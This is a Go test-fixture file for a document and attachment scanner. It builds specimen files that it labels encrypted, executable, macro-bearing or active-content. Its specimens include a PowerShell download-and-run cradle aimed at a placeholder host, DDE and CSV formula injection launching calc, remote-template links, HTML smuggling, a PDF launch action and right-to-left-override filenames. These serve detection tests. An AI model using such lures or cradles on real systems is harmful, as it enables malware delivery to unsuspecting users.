package scan

import (
	"strings"

	"sekisho"
)

const elf, pe = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00", "MZ\x90\x00\x03\x00\x00\x00"

// peFile is a program of Windows.
func peFile() string {
	return pe + strings.Repeat("\x00", 120) + "PE\x00\x00" + strings.Repeat("\x00", 200)
}

func lockedFiles() []specimenFile {
	const k = sekisho.KindEncrypted
	sheet := record(0x809, 0, 6, 5, 0, 0, 0, 0, 0) + record(0x2f, 0, 0, 1, 2, 3, 4)
	fib := "\xec\xa5\xc1\x00" + strings.Repeat("\x00", 6) + "\x00\x01" + strings.Repeat("\x00", 40)
	user := strings.Repeat("\x00", 12) + "\xdf\xc4\xd1\xf3" + strings.Repeat("\x00", 30)
	return []specimenFile{
		{k, "crypto.zip", zipLocked("a.txt", 8, 0, false)}, {k, "stored.zip", zipLocked("a.txt", 0, 0, false)}, {k, "stream.zip", zipLocked("a.txt", 8, 0, true)},
		{k, "aes.zip", zipLocked("a.docx", 99, 0, false)}, {k, "strong.zip", zipLocked("a.docx", 8, 0x40, false)}, {k, "masked.zip", zipLocked("a.docx", 8, 0x2041, false)},
		{k, "wrong-name.dat", zipLocked("a.docx", 99, 0, false)}, {k, "inner.zip", zipFiles("b.zip", string(zipLocked("a", 8, 0, false)))},
		{k, "inner.tar.gz", gzipped(tarred("b.zip", string(zipLocked("a", 99, 0, false))))},
		{k, "head.rar", rar5(true, false)}, {k, "file.rar", rar5(false, true)},
		{k, "agile.docx", compoundFile("", "EncryptedPackage", "x", "EncryptionInfo", "\x04\x00\x04\x00\x40\x00\x00\x00<encryption/>")},
		{k, "standard.xlsx", compoundFile("", "EncryptionInfo", "\x03\x00\x02\x00", "EncryptedPackage", "x")},
		{k, "old.xls", compoundFile("", "Workbook", sheet)}, {k, "older.xls", compoundFile("", "Book", sheet)},
		{k, "old.doc", compoundFile("", "WordDocument", fib)}, {k, "old.ppt", compoundFile("", "Current User", user, "PowerPoint Document", "x")},
		{k, "a.pdf", []byte("%PDF-1.6\n1 0 obj\n<</Type/Catalog>>\nendobj\n2 0 obj\n<</Filter/Standard/V 4/R 4/Length 128/P -44/O<" + strings.Repeat("ab", 32) + ">/U<" + strings.Repeat("cd", 32) + ">>>\nendobj\ntrailer\n<</Root 1 0 R/Encrypt 2 0 R/ID[<aa><aa>]>>\n%%EOF\n")},
		{k, "smime.p7m", []byte("\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80\x30\x80\x02\x01\x00")},
		{k, "x.pgp", []byte("-----BEGIN PGP MESSAGE-----\n\nhQEMA0\n-----END PGP MESSAGE-----\n")},
		{k, "x.gpg", []byte("\x85\x01\x0c\x03\x11\x22\x33\x44\x55\x66\x77\x88\x01" + strings.Repeat("\x91\x3a\x55", 90))},
		{k, "sheet.ods", zipFiles("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml", `<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>`, "content.xml", "\x91\x3a")},
	}
}

func programFiles() []specimenFile {
	const k = sekisho.KindExecutable
	msi := "\x84\x10\x0c\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
	list := []specimenFile{
		{k, "a.dat", []byte(peFile())}, {k, "b.txt", []byte(elf + strings.Repeat("\x00", 60))}, {k, "c.jpg", []byte("\xcf\xfa\xed\xfe" + strings.Repeat("\x00", 60))},
		{k, "fat.bin", []byte("\xca\xfe\xba\xbe\x00\x00\x00\x02" + strings.Repeat("\x00", 60))}, {k, "setup.bin", compoundFile(msi, "\u4840\u3f3f", "x")}, {k, "app.zip", zipFiles("AndroidManifest.xml", "x", "classes.dex", "dex\n035\x00"+strings.Repeat("x", 60))},
		{k, "tool.zip", zipFiles("META-INF/MANIFEST.MF", "Main-Class: A", "A.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34")}, {k, "m.bin", []byte("\x00asm\x01\x00\x00\x00")},
		{k, "pkg.bin", []byte("!<arch>\ndebian-binary   ")}, {k, "pkg2.bin", []byte("\xed\xab\xee\xdb\x03\x00" + strings.Repeat("\x00", 90))}, {k, "pkg3", []byte("xar!\x00\x1c\x00\x01" + strings.Repeat("\x00", 90))},
		{k, "disk.bin", padded(40000, map[int]string{0x8001: "CD001"})}, {k, "udf.bin", padded(60000, map[int]string{0x8001: "BEA01", 0x8801: "NSR02"})}, {k, "fixed.bin", padded(4096, map[int]string{3584: "conectix"})},
		{k, "x.bin", []byte("vhdxfile" + strings.Repeat("\x00", 600))}, {k, "mac.bin", padded(2048, map[int]string{1536: "koly\x00\x00\x00\x04"})}, {k, "fat.dat", padded(2048, map[int]string{0: "\xeb\x3c\x90MSDOS5.0", 510: "\x55\xaa"})},
		{k, "mbr.dat", padded(2048, map[int]string{450: "\x0c", 510: "\x55\xaa"})}, {k, "wim.dat", padded(600, map[int]string{0: "MSWIM\x00\x00\x00"})}, {k, "vm.dat", padded(600, map[int]string{0: "KDMV"})},
		{k, "doc", []byte("L\x00\x00\x00\x01\x14\x02\x00" + strings.Repeat("\x00", 90))}, {k, "help.dat", []byte("ITSF\x03\x00\x00\x00" + strings.Repeat("\x00", 90))}, {k, "run.dat", []byte("#!/usr/bin/env python3\nprint(1)\n")},
		{k, "text.txt", []byte("@echo off\r\nstart calc\r\n")}, {k, "rem.dat", []byte("rem hello\r\n@echo off\r\ndel x\r\n")}, {k, "reg.txt", wide("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n")},
		{k, "link.txt", []byte("[InternetShortcut]\r\nURL=file://x.example/a.exe\r\n")}, {k, "d.txt", []byte("# x\n[Desktop Entry]\nExec=sh\n")}, {k, "q.txt", []byte("WEB\r\n1\r\nhttp://x.example/\r\n")},
		{k, "a.xml", []byte(`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>`)}, {k, "b.xml", []byte(`<searchConnectorDescription/>`)},
		{k, "c.xml", []byte(`<?xml version="1.0"?><PCSettings><SearchableContent/></PCSettings>`)}, {k, "d.xml", []byte(`<?XML version="1.0"?><scriptlet><registration/></scriptlet>`)}, {k, "e.xml", []byte(`<?xml version="1.0"?><package><job id="a"><script language="VBScript">x</script></job></package>`)},
		{k, "f.xml", []byte(`<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"/>`)}, {k, "g.xml", []byte(`<?xml version="1.0" encoding="utf-8"?><jnlp spec="1.0+"/>`)}, {k, "h.htm", []byte(`<html><head><HTA:APPLICATION ID="x"/></head></html>`)},
		{k, "i.xml", wide(`<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"/>`)}, {k, "enc.txt", []byte("#@~^XyAAAA==x")}, {k, "au.dat", []byte("\xa3\x48\x4b\xbe\x98\x6c\x4a\xa9\x99\x4c\x53\x0a\x86\xd6\x48\x7d")},
		{k, "invoice\u202efdp.exe", []byte("x")}, {k, "a.pdf.scr", []byte("x")}, {k, "a.pdf          .js", []byte("x")}, {k, "a.exe.", []byte("x")},
	}
	for _, ext := range strings.Fields("exe com scr pif bat cmd cpl dll sys msi msp js jse vbs vbe wsf wsh hta ps1 psm1 lnk url scf inf reg jar iso img vhd vhdx chm msc gadget application appref-ms appx msix settingcontent-ms library-ms search-ms xll wll sct shb iqy slk diagcab rdp sh command app dmg pkg deb rpm apk desktop website xbap pyw au3 ahk jnlp appinstaller") {
		list = append(list, specimenFile{k, "file." + ext, []byte("text")})
	}
	return list
}

func macroFiles() []specimenFile {
	const k = sekisho.KindMacro
	const word, excel = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	bound := func(kind byte) string {
		return record(0x809, 0, 6, 5, 0, 0, 0, 0, 0) + record(0x85, 0, 0, 0, 0, 2, kind, 1, 0, 'a')
	}
	rel := func(kind, to string) string {
		return `<x:Relationships xmlns:x="y"><x:Relationship Target='` + to + `' Id='a' Type='http://schemas.microsoft.com/office/2006/relationships/` + kind + `'/></x:Relationships>`
	}
	doc := ooxml("word/document.xml", word, "word/document.xml", "<w:document/>", "word/vbaProject.bin", "x")
	return []specimenFile{
		{k, "a.docm", doc}, {k, "b.docx", doc}, {k, "renamed.txt", doc}, {k, "odd.docx", ooxml("word/document.xml", word, "word/_rels/document.xml.rels", rel("vbaProject", "media/image1.png"), "word/media/image1.png", "x")},
		{k, "wide.docx", ooxml("word/document.xml", word, "word/_rels/document.xml.rels", string(wide(rel("vbaProject", "other.bin"))), "word/other.bin", "x")},
		{k, "typed.docx", zipFiles("[Content_Types].xml", `<Types><Override ContentType="application/vnd.ms-office.vbaProject" PartName="/x.y"/></Types>`, "x.y", "z")},
		{k, "xlm.xlsm", ooxml("xl/workbook.xml", excel, "xl/macrosheets/sheet1.xml", "<x/>")}, {k, "xlm2.xlsx", ooxml("xl/workbook.xml", excel, "xl/_rels/workbook.xml.rels", rel("xlMacrosheet", "worksheets/sheet9.xml"), "xl/worksheets/sheet9.xml", "<x/>")},
		{k, "bin.xlsb", ooxml("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin", "x", "xl/macrosheets/binarySheet1.bin", "x")},
		{k, "slides.pptm", ooxml("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "ppt/vbaProject.bin", "x")},
		{k, "old.xls", compoundFile("", "Workbook", bound(1))}, {k, "older.xls", compoundFile("", "Book", bound(1))}, {k, "hidden.xls", compoundFile("", "Workbook", record(0x809, 0, 6, 5, 0, 0, 0, 0, 0)+record(0x85, 0, 0, 0, 0, 2, 1, 1, 0, 'a'))},
		{k, "sheet.xls", []byte(record(0x409, 0, 0, 0x40, 0, 0, 0))}, {k, "vba.doc", compoundFile("", "_VBA_PROJECT", "\xcc\x61", "WordDocument", "x")}, {k, "code.doc", compoundFile("", "Odd", "\x01\x19\xb0\x00Attribut\x00e VB_Name = \"x\"")},
		{k, "writer.odt", zipFiles("mimetype", "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml", "<script:module/>")},
		{k, "python.ods", zipFiles("mimetype", "application/vnd.oasis.opendocument.spreadsheet", "Scripts/python/x.py", "import os")},
		{k, "a.xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"/>`)},
		{k, "in.zip", zipFiles("inner.docm", string(doc))}, {k, "in.tar", tarred("a/b.docm", string(doc))}, {k, "in.gz", gzipped(doc)},
		{k, "page.doc", []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\nContent-Location: file:///C:/a/editdata.mso\r\n\r\n" + base64Of(compoundFile("", "_VBA_PROJECT", "\xcc\x61")) + "\r\n--x--\r\n")},
		{k, "sym.slk", []byte("ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC(\"calc\")\r\nE\r\n")},
	}
}

func activeFiles() []specimenFile {
	const k = sekisho.KindActive
	const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	doc := func(more ...string) []byte { return ooxml("word/document.xml", word, more...) }
	return []specimenFile{
		{k, "t.docx", doc("word/_rels/settings.xml.rels", related("attachedTemplate", "https://x.example/t.dotm"))}, {k, "unc.docx", doc("word/_rels/settings.xml.rels", related("attachedTemplate", `file:///\\x.example\t.dotm`))},
		{k, "o.docx", doc("word/_rels/document.xml.rels", related("oleObject", "mhtml:http://x.example/a!x-usc:http://x.example/a"))}, {k, "f.docx", doc("word/_rels/webSettings.xml.rels", related("frame", "http://x.example/a"))},
		{k, "c.docx", doc("word/_rels/document.xml.rels", related("aFChunk", "http://x.example/a"))}, {k, "i.docx", doc("word/_rels/document.xml.rels", related("image", `file://x.example/a.png`))},
		{k, "dde.docx", doc("word/document.xml", `<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\windows\\cmd.exe "/c"</w:instrText></w:r></w:p>`)},
		{k, "dde.xlsx", ooxml("xl/workbook.xml", "x", "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`)}, {k, "f.xlsx", ooxml("xl/workbook.xml", "x", "xl/worksheets/sheet1.xml", `<c r="A1"><f>cmd|'/c calc'!A0</f></c>`)},
		{k, "p.docx", doc("word/embeddings/oleObject1.bin", string(compoundFile("", "\x01Ole10Native", "\x20\x00\x00\x00\x02\x00a.exe\x00a.exe\x00\x00\x00\x03\x00\x05\x00\x00\x00a.exe\x00\x02\x00\x00\x00MZ")))},
		{k, "d.csv", []byte("a,b\n=cmd|'/c calc'!A0,1\n")}, {k, "r.rtf", []byte(`{\rt {\object\objocx{\*\objdata 0105}}}`)}, {k, "t.rtf", []byte(`{\rtf1{\*\template https://x.example/t.dot}}`)},
		{k, "s.html", []byte(`<html><script>var a=atob("TVqQ");var b=new Blob([a]);navigator.msSaveBlob(b,"a.exe")</script></html>`)}, {k, "s.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)}, {k, "e.svg", []byte(`<svg><a xlink:href="javascript:alert(1)">x</a></svg>`)},
		{k, "j.pdf", []byte("%PDF-1.4\n1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert)>>>>\nendobj\ntrailer<</Root 1 0 R>>\n")}, {k, "l.pdf", []byte("%PDF-1.4\n1 0 obj\n<</Type/Catalog/OpenAction<</S/#4caunch/F(cmd.exe)>>>>\nendobj\ntrailer<</Root 1 0 R>>\n")},
		{k, "n.one", notebook("<job><script language=\"VBScript\">CreateObject(\"WScript.Shell\")</script></job>")}, {k, "gif.txt", []byte("new ActiveXObject('WScript.Shell').Run('calc')")}, {k, "p.txt", []byte("IEX (New-Object Net.WebClient).DownloadString('http://x.example/')")},
	}
}

// wrappedFiles hide a program in something else.
func wrappedFiles() []specimenFile {
	const k = sekisho.KindExecutable
	p := peFile()
	return []specimenFile{
		{k, "a.zip", zipFiles("b/readme.txt", p)}, {k, "b.tar", tarred("readme", p)}, {k, "c.tgz", gzipped(tarred("readme", p))}, {k, "d.gz", gzipped([]byte(p))}, {k, "e.pdf", append([]byte("%PDF-1.4\ntrailer\n%%EOF\n"), zipFiles("x", p)...)},
		{k, "f.gif", append([]byte("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), zipFiles("x", p)...)}, {k, "g.dat", tnef("a.dat", p)}, {k, "h.one", notebook(p)}, {k, "i.eml", wrap("readme.txt", []byte(p))},
		{k, "j.uue", []byte("begin 644 readme\n" + uuencoding(p) + "`\nend\n")}, {k, "k.msg", compoundFile("", "__substg1.0_37010102", p)}, {k, "l.p7m", signedMail(wrap("x.txt", []byte(p)))},
		{k, "m.docx", ooxml("word/document.xml", "x", "word/media/image1.png", p)}, {k, "n.zip", zipFiles("a.zip", string(zipFiles("b.zip", string(zipFiles("c", p)))))}, {k, "o.html", []byte("<html><script>var a='" + base64Of([]byte(p)) + "'</script></html>")},
		{k, "q.rtf", []byte(`{\rtf1{\object\objemb{\*\objdata 0105000002000000080000005061636b61676500000000000000000010000000` + "0200612e65786500612e6578650000000300060000" + "00612e65786500" + "04000000" + "4d5a9000" + `}}}`)},
	}
}

// uuencoding encodes a text of lines of 45 bytes.
func uuencoding(s string) string {
	var b strings.Builder
	for ; s != ""; s = s[min(45, len(s)):] {
		line := s[:min(45, len(s))]
		b.WriteByte(byte(' ' + len(line)))
		for line += "\x00\x00"; len(line) >= 3; line = line[3:] {
			n := uint32(line[0])<<16 | uint32(line[1])<<8 | uint32(line[2])
			for shift := 18; shift >= 0; shift -= 6 {
				b.WriteByte(byte(' ' + n>>shift&63))
			}
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// signedMail wraps a mail as S/MIME signs it in one piece.
func signedMail(mail []byte) []byte {
	v := func(tag byte, body string) string { return string([]byte{tag, 0x80}) + body + "\x00\x00" }
	content := string([]byte{4, 0x82, byte(len(mail) >> 8), byte(len(mail))}) + string(mail)
	const signed, data = "\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02", "\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01"
	return []byte(v(0x30, signed+v(0xa0, v(0x30, "\x02\x01\x01\x31\x00"+v(0x30, data+v(0xa0, v(0x24, content)))))))
}

func ordinaryFiles() []specimenFile {
	const word, sheet = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	return []specimenFile{
		{"", "a.docx", ooxml("word/document.xml", word, "word/document.xml", "<w:document><w:t>DDE and macros</w:t></w:document>", "word/_rels/document.xml.rels", related("hyperlink", "https://www.example.com/"))},
		{"", "b.docx", ooxml("word/document.xml", word, "word/_rels/settings.xml.rels", related("attachedTemplate", "file:///C:/Users/a/Normal.dotm"), "word/_rels/document.xml.rels", related("image", "https://www.example.com/a.png"))},
		{"", "c.xlsx", ooxml("xl/workbook.xml", sheet, "xl/worksheets/sheet1.xml", "<c><f>SUM(A1:A2)&amp;\"|'\"</f></c>")}, {"", "d.odt", zipFiles("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<office:body/>", "META-INF/manifest.xml", "<manifest:manifest/>")},
		{"", "e.txt", []byte("We met on Monday. The echo is off.\n")}, {"", "f.csv", []byte("name,price\nx,1\n")}, {"", "g.zip", zipFiles("a.txt", "hello", "b/c.csv", "1,2")}, {"", "h.tar.gz", gzipped(tarred("a.txt", "hello"))},
		{"", "i.xml", []byte(`<?xml version="1.0"?><order><job>x</job></order>`)}, {"", "j.md", []byte("# begin here\n\nREM is a sleep phase.\n")}, {"", "k.001", []byte("a report\n")}, {"", "l.xls", compoundFile("", "Workbook", record(0x809, 0, 6, 5, 0, 0, 0, 0, 0)+record(0x85, 0, 0, 0, 0, 0, 0, 1, 0, 'a'))},
		{"", "m.doc", compoundFile("", "WordDocument", "\xec\xa5\xc1\x00"+strings.Repeat("\x00", 60))}, {"", "n.rtf", []byte(`{\rtf1\ansi plain text}`)}, {"", "o.ics", []byte("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")}, {"", "p.vcf", []byte("BEGIN:VCARD\r\nEND:VCARD\r\n")},
		{"", "q.pdf", []byte("%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")}, {"", "r.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>`)},
		{"", "s.p7s", []byte("\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x80\x30\x80\x02\x01\x01\x31\x00\x30\x0b\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\x00\x00\x00\x00\x00\x00")}, {"", "t.json", []byte(`{"a":1}`)},
	}
}
